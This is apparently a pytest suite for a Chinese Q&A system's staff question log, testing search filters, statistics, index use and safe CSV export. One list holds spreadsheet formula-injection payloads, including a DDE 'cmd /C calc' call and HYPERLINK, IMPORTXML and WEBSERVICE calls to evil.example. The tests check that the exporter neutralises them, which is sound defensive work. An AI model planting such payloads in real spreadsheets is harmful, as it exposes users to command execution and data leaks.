"""The log for staff: every question is found by what is known of it, explained, counted, and exported harmlessly."""

import csv
import io
import random
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from qa.answering.reply import REVIEWED, WRITTEN, Reason, Sentence
from qa.runtime.errors import Missing, Unfit
from qa.staff.questions.log import selecting, wording
from qa.staff.questions.log.selecting import ANY, NONE, Wanted
from qa.staff.questions.spreadsheet import harmless, table
from qa.storage import statistics
from qa.storage.database import DATABASE, Connection, open_database
from qa.storage.question_log import REASONS
from tests.support.engines import in_a_file
from tests.support.programs.feedback_office import NOW, QUOTED, REFUSED, LoopOffice

pytestmark = pytest.mark.usefixtures("both_engines")

# What spreadsheets have been seen to calculate, call or fetch, in their disguises.
LIVE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","点我")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "|cmd",
    "%00=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]


@pytest.fixture
def office(tmp_path: Path) -> LoopOffice:
    return LoopOffice(tmp_path)


def questions(office: LoopOffice, **wanted: object) -> list[str]:
    found = office.console().questions.find(Wanted(**wanted))  # type: ignore[arg-type]  # one field at a time
    return [entry.question for entry in found.entries]


def test_questions_are_found_by_outcome_opinion_day_words_and_making(office: LoopOffice) -> None:
    office.note(QUOTED, "商会有多少会员？", days=3, verdict="up")
    office.note(replace(QUOTED, missing="会费"), "会员和会费各多少？", days=2, verdict="down")
    office.note(REFUSED, "校长是谁？", days=1)
    office.note(replace(QUOTED, made_by=REVIEWED), "產業園在哪裡？")
    everything = ["產業園在哪裡？", "校长是谁？", "会员和会费各多少？", "商会有多少会员？"]
    assert questions(office) == everything
    assert questions(office, outcomes=("abstained",)) == ["校长是谁？"]
    assert questions(office, outcomes=("partial", "abstained")) == everything[1:3]
    assert questions(office, verdict="down") == ["会员和会费各多少？"]
    assert (questions(office, verdict=ANY), questions(office, verdict=NONE)) == (everything[2:], everything[:2])
    assert questions(office, since=(NOW - timedelta(days=1)).astimezone().date()) == everything[:2]
    assert questions(office, until=(NOW - timedelta(days=2)).astimezone().date()) == everything[2:]
    assert questions(office, text="会员") == everything[2:]
    assert questions(office, text="产业园") == ["產業園在哪裡？"], "Traditional characters are found by Simplified"
    assert (questions(office, text="%"), questions(office, text="_")) == ([], [])
    assert questions(office, made_by=REVIEWED) == ["產業園在哪裡？"]
    assert questions(office, reason="not_in_documents") == ["校长是谁？"]
    with pytest.raises(Unfit, match="answered"):
        Wanted(outcomes=("good",))


def test_answers_written_by_ai_are_found_told_and_counted(office: LoopOffice) -> None:
    desk = office.console().questions
    office.note(QUOTED, "商会有多少会员？")
    written = office.note(replace(QUOTED, made_by=WRITTEN, sentences=(Sentence("有237家。", (0,)),)), "会员多少家？")
    assert questions(office, made_by=WRITTEN) == ["会员多少家？"]
    detail = desk.detail(written)
    assert "由AI写成1句" in detail.why and detail.entry.made_by == WRITTEN
    assert "AI 生成" in desk.export(Wanted(made_by=WRITTEN)).decode()
    assert (desk.statistics().written, desk.statistics().reviewed) == (1, 0)


def test_pages_hold_everything_once(office: LoopOffice) -> None:
    for number in range(7):
        office.note(REFUSED, f"问题{number}？", days=number)
    pages = [office.console().questions.find(page=page, size=3) for page in (1, 2, 3)]
    assert [entry.question for page in pages for entry in page.entries] == [f"问题{n}？" for n in range(7)]
    assert {(page.total, page.pages) for page in pages} == {(7, 3)}
    assert office.console().questions.find(page=99, size=3).number == 3


def test_the_detail_says_what_was_found_why_and_on_which_snapshot(office: LoopOffice) -> None:
    desk = office.console().questions
    refused = desk.detail(office.note(replace(REFUSED, nearest=QUOTED.citations)))
    assert "没有这个问题的答案" in refused.why and "20%" in refused.why
    assert refused.reply == replace(REFUSED, nearest=QUOTED.citations)
    assert refused.entry.snapshot == "snapshot-000001"
    answered = desk.detail(office.note(replace(QUOTED, missing="会费")))
    assert "合作.txt" in answered.why and "90%" in answered.why and "会费" in answered.why
    assert "人工审核" in desk.detail(office.note(replace(QUOTED, made_by=REVIEWED))).why
    with pytest.raises(Missing):
        desk.detail("nothing")


def test_every_reason_is_explained() -> None:
    assert set(wording.REASON_WORDS) == set(Reason)
    assert [*wording.COMPLAINTS] == [*REASONS]


def test_faults_are_counted_by_their_kind_and_hold_no_number(office: LoopOffice) -> None:
    office.log.fail("我是13812345678", ZeroDivisionError("secret"), NOW, channel="api", snapshot="s", ms=3.0)
    desk = office.console().questions
    figures = desk.statistics("24h")
    assert (figures.counts, figures.failures) == ({"failed": 1}, {"ZeroDivisionError": 1})
    (entry,) = desk.find(Wanted(outcomes=("failed",))).entries
    assert entry.question == "我是【手机号】"
    detail = desk.detail(entry.id)
    assert (detail.reply, "ZeroDivisionError" in detail.failure, "secret" in detail.failure) == (None, True, False)


@pytest.mark.parametrize(("period", "number", "counted"), [("24h", 24, 1), ("7d", 7, 2), ("30d", 30, 3)])
def test_statistics_have_a_bucket_for_each_hour_or_day(
    office: LoopOffice, period: str, number: int, counted: int
) -> None:
    for days in (0, 3, 20, 100):
        office.note(REFUSED, days=days)
    office.note(QUOTED, verdict="up")
    office.note(QUOTED, verdict="up")
    office.note(QUOTED, verdict="down")
    office.note(replace(QUOTED, made_by=REVIEWED), verdict="down")
    figures = office.console().questions.statistics(period)
    assert len(figures.buckets) == number
    assert figures.counts == {"abstained": counted, "answered": 4}
    assert sum(sum(bucket.counts.values()) for bucket in figures.buckets) == figures.total == counted + 4
    assert figures.buckets[-1].counts.get("answered") == 4
    assert (figures.up, figures.down, figures.satisfaction, figures.reviewed) == (2, 2, 0.5, 1)
    assert (figures.median_ms, figures.p95_ms) == (100.0, 200.0)
    slowest = office.console().questions.slowest(period, most=1)
    assert [entry.question for entry in slowest] == ["校长是谁？"]


def test_an_hour_ends_where_the_next_one_begins() -> None:
    now = datetime(2026, 5, 1, 8, 59, 59, tzinfo=UTC)
    assert statistics.start("24h", now) == datetime(2026, 4, 30, 9, tzinfo=UTC)


def test_no_figures_are_made_of_nothing(office: LoopOffice) -> None:
    figures = office.console().questions.statistics("7d")
    assert (figures.total, figures.satisfaction, figures.median_ms) == (0, None, None)
    with pytest.raises(Unfit, match="24h"):
        office.console().questions.statistics("1y")


@in_a_file
@pytest.mark.parametrize("cell", LIVE)
def test_no_cell_is_calculated(cell: str) -> None:
    ((_, shown),) = list(csv.reader(io.StringIO(table(["a", "b"], [["", cell]]).decode("utf-8-sig"))))[1:]
    assert shown[0] == "'"
    assert shown[1:] == "".join(" " if ord(char) < 0x20 else char for char in cell)


@in_a_file
@pytest.mark.parametrize("cell", ["", "237家", "1+1=2", "浙江-涪陵", "a@b.cn 是谁的", "https://x.cn?a=1", "（=1）"])
def test_other_cells_are_left_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell


def test_the_export_opens_in_chinese_and_holds_what_was_wanted(office: LoopOffice) -> None:
    asked = office.note(REFUSED, '=1+1是多少，"真"的？\n请说', days=1)
    office.log.judge(asked, "down", NOW, comment="", reasons=["incomplete", "outdated"])
    office.note(QUOTED, "商会有多少会员？")
    content = office.console().questions.export(Wanted(outcomes=("abstained",)))
    assert content.startswith(b"\xef\xbb\xbf")
    header, line = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    row = dict(zip(header, line, strict=True))
    assert row["问题"] == '\'=1+1是多少，"真"的？ 请说'
    assert (row["结果"], row["评价"], row["版本"], row["回答"]) == ("未回答", "没帮助", "snapshot-000001", "没有找到。")
    assert (row["评价理由"], row["渠道"]) == ("不完整、已过时", "网页")
    (begun, done) = office.console().audit()
    assert (done.who, done.action, done.target, "abstained" in done.why) == ("王芳", "export", "1条问答记录", True)


def filled(path: Path, count: int) -> Connection:
    connection = open_database(path)
    chance = random.Random(1)
    rows = [
        (
            str(number),
            (NOW - timedelta(minutes=number)).isoformat(timespec="milliseconds"),
            chance.choice(wording.OUTCOMES),
            chance.choice(["up", "down", None, None]),
        )
        for number in range(count)
    ]
    connection.executemany(
        "INSERT INTO replies (id, asked_at, channel, question, status, snapshot, reply, documents, elapsed_ms, verdict)"
        " VALUES (?, ?, 'page', '问', ?, 's', '{}', '{}', 1, ?)",
        rows,
    )
    connection.execute("ANALYZE")
    return connection


@in_a_file
@pytest.mark.parametrize(
    "wanted",
    [
        Wanted(),
        Wanted(outcomes=("abstained",)),
        Wanted(outcomes=("abstained", "failed")),
        Wanted(verdict="down"),
        Wanted(verdict="any"),
        Wanted(since=NOW.date()),
        Wanted(text="会员"),
        Wanted(text="会员", outcomes=("answered",), verdict="none", since=NOW.date(), until=NOW.date()),
        Wanted(made_by="quoted"),
        Wanted(reason="not_in_documents"),
    ],
)
def test_every_search_runs_over_an_index(tmp_path: Path, wanted: Wanted) -> None:
    connection = filled(tmp_path / DATABASE, 2000)
    where, values = selecting.condition(wanted)
    counting = f"SELECT count(*) FROM replies{where}"
    for query in (counting, selecting.selection(where)):
        plan = connection.execute(f"EXPLAIN QUERY PLAN {query}", {**values, "size": 50, "skip": 0}).fetchall()
        steps = [row["detail"] for row in plan if "replies" in row["detail"]]
        assert steps and all("USING" in step for step in steps), steps
    without = [
        row["detail"] for row in connection.execute("EXPLAIN QUERY PLAN SELECT reply FROM replies WHERE reply > ''")
    ]
    assert not any("USING" in step for step in without), "or the check would never fail"
    connection.close()


@in_a_file
@pytest.mark.parametrize(
    ("wanted", "step"),
    [
        (Wanted(outcomes=("abstained",)), "SEARCH replies USING COVERING INDEX replies_status (status=?)"),
        (Wanted(verdict="down"), "SEARCH replies USING COVERING INDEX replies_verdict (verdict=?)"),
        (Wanted(since=NOW.date()), "SEARCH replies USING COVERING INDEX replies_asked_at (asked_at>?)"),
        (Wanted(text="会员"), "SCAN replies USING COVERING INDEX replies_searched"),
    ],
)
def test_what_is_searched_most_has_an_index_of_its_own(tmp_path: Path, wanted: Wanted, step: str) -> None:
    connection = filled(tmp_path / DATABASE, 2000)
    where, values = selecting.condition(wanted)
    for query in (f"SELECT count(*) FROM replies{where}", selecting.selection(where)):
        plan = connection.execute(f"EXPLAIN QUERY PLAN {query}", {**values, "size": 50, "skip": 0})
        assert step in [row["detail"] for row in plan]
    connection.close()


@in_a_file
def test_the_statistics_run_over_an_index(tmp_path: Path) -> None:
    connection = filled(tmp_path / DATABASE, 2000)
    values = {"since": "2026", "skip": 1, "failed": "failed", "made": "reviewed"}
    for query in (statistics.HOURS, statistics.VERDICTS, statistics.TIMES, statistics.FAULTS, statistics.MADE):
        steps = [row["detail"] for row in connection.execute(f"EXPLAIN QUERY PLAN {query}", values)]
        assert any("USING" in step and "replies" in step for step in steps), steps
    connection.close()
